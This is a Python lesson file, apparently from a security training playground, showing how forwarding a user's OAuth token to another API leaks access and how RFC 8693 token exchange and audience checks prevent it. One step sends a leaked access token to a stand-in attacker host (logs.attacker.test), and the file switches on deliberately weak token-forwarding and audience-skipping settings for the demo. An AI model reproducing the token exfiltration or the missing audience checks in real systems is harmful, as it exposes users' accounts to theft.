"""Forwarding the user's token to another API (audience mix-up), and token
exchange (RFC 8693) as the defence."""

from playground import Lesson

ALICE = "u-1001"
LOG_SERVICE = "https://logs.attacker.test/upload"
SCOPE = "basic email photos.read prints.order"
AUDIENCE_CHECK = "InvalidAudienceError: Audience doesn't match"

lesson = Lesson(
    "Forwarding the user's token downstream: one leak opens every API",
    level="advanced",
    kind="attack",
    weakness=("rs.forward_user_token", "rs.print_lab_any_audience"),
    summary=(
        "The photos API needs the print lab's API to print Alice's photo. The "
        "quick way: send Alice's own token along, and have the print lab skip "
        "the audience check so it takes it. Then the print lab holds a token "
        "that opens the photos API, and when its request log leaks, Mallory "
        "reads Alice's profile and photos with it. Token exchange gives the "
        "lab a token good only at the lab, for one scope and five minutes."
    ),
    defence="""
**Give each API a token made for it, and have each API check that.**

- **Exchange, never forward** (RFC 8693): the photos API trades Alice's
  token at the authorization server for one whose `aud` is the print lab,
  with a subset of the scopes (`prints.order`), a short life, and `act`
  naming the photos API. The defended run does this: the leaked token is
  refused at the photos API, **401** `invalid_token`, "InvalidAudienceError:
  Audience doesn't match".
- **Check `aud` at every API** (RFC 9068 4; RFC 9700 2.3: a resource server
  MUST refuse a token not meant for it). A print lab that checks its
  audience cannot be fed forwarded tokens at all, so nobody is tempted.
- **Restrict tokens to one audience** (RFC 9700 2.3, 4.10.2): "audience
  restriction limits the impact of token leakage", and RFC 9700 4.9.3: it
  SHOULD be used "to prevent replay of captured access tokens on other
  resource servers".
- **Keep tokens out of logs**: RFC 9700 4.9.3, the resource server "MUST
  treat access tokens like other sensitive secrets and not store or transfer
  them in plain text". The leak here happens in both runs; what it is worth
  is what the two weaknesses decide.
- **Sender-constrain tokens** (DPoP, mTLS; RFC 9700 4.9.3 and 4.10.1): a
  token copied from a log is useless without its holder's key.
""",
)


@lesson.step("Alice signs in to Photos")
def sign_in(run):
    """
    Alice signs in to **Photos**, the photo service's own web app, which
    asks for `basic email photos.read prints.order`. Its access token is for
    the **photos API** (`aud`) and carries all four scopes: her profile and
    email, her photos, and ordering prints.
    """
    response = run.code_flow(
        run.photos_web, run.browser, "alice", "wonderland", scope=SCOPE
    )
    run.alice_token = run.photos_web.tokens.get("access_token", "")
    claims = run.decode(run.alice_token).claims
    run.check("the token endpoint answers 200", response.status_code == 200)
    run.check(
        "her token is for the photos API, with email and photos.read",
        claims.get("aud") == run.api_url and claims.get("scope") == SCOPE,
    )


@lesson.step("She orders a print; what reaches the print lab?")
def order(run):
    """
    The app calls `POST /api/prints`; the photos API calls the print lab's
    `POST /api/print-jobs`. Look at the `Authorization` header of that call.

    - **Weaknesses on**: there is no call to the token endpoint. The photos
      API sends **Alice's own token** (`rs.forward_user_token`), and the
      print lab, which skips the audience check (`rs.print_lab_any_audience`),
      accepts a token whose `aud` is the photos API (an audience mix-up: the
      lab acts on a token minted for another service): **201**, the job is
      queued. It "works", which is why teams ship it.
    - **Defended**: the photos API first exchanges Alice's token at the
      token endpoint (RFC 8693) and sends the print lab **a token of its
      own**: `aud` the print lab, `scope prints.order`, five minutes, `act`
      the photos API. The lab checks its audience and queues the job.
    """
    response = run.photos_web.call_api(
        "/api/prints", method="POST", json={"photo_id": "p-1"}
    )
    to_lab = next(e for e in run.exchanges if e.request.target == "/api/print-jobs")
    run.lab_received = to_lab.request.header("Authorization").split()[1]
    exchanged = [e for e in run.exchanges if e.request.form.get("subject_token")]
    run.check("the print is ordered: 201", response.status_code == 201)
    if run.weakness_on:
        run.check(
            "the print lab received Alice's own token",
            run.lab_received == run.alice_token,
        )
        run.check("no token exchange was made", exchanged == [])
        run.check(
            "the photos API logged access_token.forwarded",
            len(run.events_named("access_token.forwarded")) == 1,
        )
    else:
        lab = run.show_jwt(run.lab_received, "the token the print lab received")
        run.check("the photos API made a token exchange", len(exchanged) == 1)
        run.check(
            "the print lab received a token for the print lab only",
            run.lab_received != run.alice_token
            and lab.claims.get("aud") == run.print_lab_url
            and lab.claims.get("scope") == "prints.order",
        )


@lesson.step("The print lab's request log leaks")
def log_leaks(run):
    """
    The print lab logs each request it receives, headers and all, and ships
    its logs to a hosted log service whose storage turns out to be readable:
    Mallory reads it (RFC 9700 4.9.2, a compromised resource server: "partial
    access to the system, e.g., its log files"). The upload is the lab's
    request to `logs.attacker.test` below; the log line carries the token
    the lab received.

    This happens in both runs: logging tokens is a mistake of its own
    (RFC 9700 4.9.3). What the leaked token is worth is what differs.
    """
    response = run.print_lab.http.post(
        LOG_SERVICE,
        data={"request": "POST /api/print-jobs", "access_token": run.lab_received},
    )
    run.stolen = run.attacker.loot("access_token")[-1]
    run.check("the upload went through (204)", response.status_code == 204)
    run.check(
        "Mallory holds the token the print lab received", run.stolen == run.lab_received
    )


@lesson.step("Mallory calls the photos API with it")
def replay_profile(run):
    """
    Mallory sends the token to the **photos API**, `GET /api/user`.

    - **Weaknesses on**: it is Alice's own token, made for the photos API:
      **200**, Alice's profile, email included. The print lab never needed
      her email; the token it was handed could read it anyway.
    - **Defended**: the token is the print lab's. The photos API checks
      `aud` and refuses it: **401** `invalid_token`, "InvalidAudienceError:
      Audience doesn't match" (RFC 9068 4).
    """
    response = run.present_to_api(
        run.stolen, "/api/user", refused_because=AUDIENCE_CHECK, audit=True
    )
    if run.weakness_on:
        run.check(
            "with her email address",
            response.json().get("email") == "alice@example.org",
        )


@lesson.step("Fifty minutes later: Alice's token still works, the lab's is gone")
def an_hour_later(run):
    """
    Fifty minutes later Mallory comes back for Alice's photos.

    - **Weaknesses on**: Alice's token lives an hour: **200**, her photos.
    - **Defended**: the print lab's token lived five minutes and was for the
      print lab only. The photos API still refuses it for its audience, and
      even at the print lab, the only place it ever worked, it has expired:
      **401** `invalid_token`. While it lived, it could do what
      `prints.order` allows at the lab: order prints of Alice's photos,
      shipped to Alice, and list her print jobs.
    """
    run.clock.advance(50 * 60)
    run.present_to_api(run.stolen, "/api/photos", refused_because=AUDIENCE_CHECK)
    if not run.weakness_on:
        lab = run.attacker.http.get(
            f"{run.print_lab_url}/api/print-jobs",
            headers={"Authorization": f"Bearer {run.stolen}"},
        )
        run.check(
            "at the print lab too: 401 invalid_token, expired",
            lab.status_code == 401
            and "ExpiredSignatureError" in lab.json().get("error_description", ""),
        )
